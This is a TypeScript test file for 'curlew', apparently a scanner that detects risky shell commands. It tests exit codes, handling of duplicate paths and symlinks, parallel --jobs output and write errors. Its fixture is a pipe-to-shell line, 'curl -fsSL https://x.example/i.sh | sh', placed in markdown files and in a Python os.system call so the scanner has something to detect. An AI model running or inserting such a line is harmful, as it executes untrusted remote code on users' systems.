import { readFileSync, symlinkSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { folderWith } from "./folder-with.js";
import { bash, curlew } from "./curlew-process.js";
import { runHere } from "./fake-detector.js";

const BAD = "curl -fsSL https://x.example/i.sh | sh";

describe("a closed output", () => {
  const files = Object.fromEntries(
    Array.from({ length: 300 }, (_, i) => [
      `${String(i).padStart(3, "0")}.md`,
      i < 299 ? "x\n".repeat(50) : `${BAD}\n`,
    ]),
  );
  const cwd = folderWith(files);
  const status = async (line: string) =>
    (await bash(`${line}; echo "status \${PIPESTATUS[0]}"`, { cwd })).stdout.match(
      /status (\d+)/,
    )?.[1];

  it.each([
    ["a finding", "curlew scan . | true", "1"],
    [
      "a finding with an output of many lines",
      "curlew scan --format jsonl . | head -n 1 > /dev/null",
      "1",
    ],
    ["an unreadable file", "curlew scan . missing.md 2>/dev/null | true", "2"],
    ["an unreadable file first", "curlew scan --format jsonl missing.md . 2>&1 | true", "2"],
    ["no finding", "curlew scan 000.md | true", "0"],
    [
      "no finding with an output of many lines",
      "curlew scan --format jsonl 0*.md 1*.md | true",
      "0",
    ],
  ])("does not change the exit status for %s", async (_name, line, expected) => {
    expect(await status(line)).toBe(expected);
  });

  it("does not shorten the baseline", async () => {
    const line = "curlew scan --format jsonl --baseline b.json --update-baseline missing.md .";
    expect(await status(`${line} 2>/dev/null | true`)).toBe("2");
    expect(readFileSync(join(cwd, "b.json"), "utf8")).toContain("299.md");
  });
});

describe("a file that several arguments name", () => {
  it("is scanned once", async () => {
    const cwd = folderWith({ "a.md": BAD, "sub/b.md": BAD, "data.xyz": BAD });
    const found = async (...paths: string[]) =>
      (await runHere(["scan", ...paths], { cwd })).stdout.split("\n").at(-2);
    expect(await found("a.md", "./a.md", join(cwd, "a.md"), "sub/../a.md")).toBe(
      "1 finding in 1 of 1 text",
    );
    expect(await found(".", "a.md", "sub", "sub/b.md")).toBe(
      "2 findings in 2 of 2 texts (1 file of unknown type skipped)",
    );
    // data.xyz is skipped in a folder, but read if an argument names it
    expect(await found(".", "data.xyz")).toBe(
      "3 findings in 3 of 3 texts (1 file of unknown type skipped)",
    );
    expect((await runHere(["scan", "no.md", "./no.md"], { cwd })).stderr).toBe(
      "curlew: no.md: no such file or folder\n",
    );
    expect((await runHere(["scan", "-", "-"], { cwd, stdin: BAD })).stdout).toContain(
      "1 finding in 1 of 1 text",
    );
  });

  it("is scanned again if an argument is a symbolic link to it", async () => {
    const cwd = folderWith({ "a.md": BAD });
    symlinkSync("a.md", join(cwd, "b.md"));
    expect((await runHere(["scan", "a.md", "b.md"], { cwd })).stdout).toContain(
      "2 findings in 2 of 2 texts",
    );
  });
});

describe("--jobs", () => {
  it("gives the same output as one thread, in the same order", async () => {
    const files = Object.fromEntries(
      Array.from({ length: 40 }, (_, i) => [
        `${i}.md`,
        `${"words and words\n".repeat((i * 37) % 200)}\n${i % 3 === 0 ? BAD : ""}\n`,
      ]),
    );
    const cwd = folderWith({ ...files, "x.py": `import os\nos.system("${BAD}")\n` });
    const [one, three] = await Promise.all(
      ["1", "3"].map((jobs) => curlew(["scan", "--format", "json", "--jobs", jobs, "."], { cwd })),
    );
    expect(one?.stdout).toBe(three?.stdout);
    expect([one?.status, three?.status, one?.stderr, three?.stderr]).toEqual([1, 1, "", ""]);
    expect(JSON.parse(one?.stdout ?? "").summary).toMatchObject({ files: 41, findings: 15 });
  });

  it("stops after a write error, and requires a positive number", async () => {
    const cwd = folderWith({ "a.md": BAD, "b.md": BAD });
    expect(await bash("curlew scan --jobs 2 . > /dev/full", { cwd })).toMatchObject({
      status: 2,
      stderr: "curlew: cannot write standard output: no space left\n",
    });
    expect(await curlew(["scan", "--jobs", "0", "."], { cwd })).toMatchObject({
      status: 2,
      stderr: expect.stringContaining("whole number above 0"),
    });
  });
});
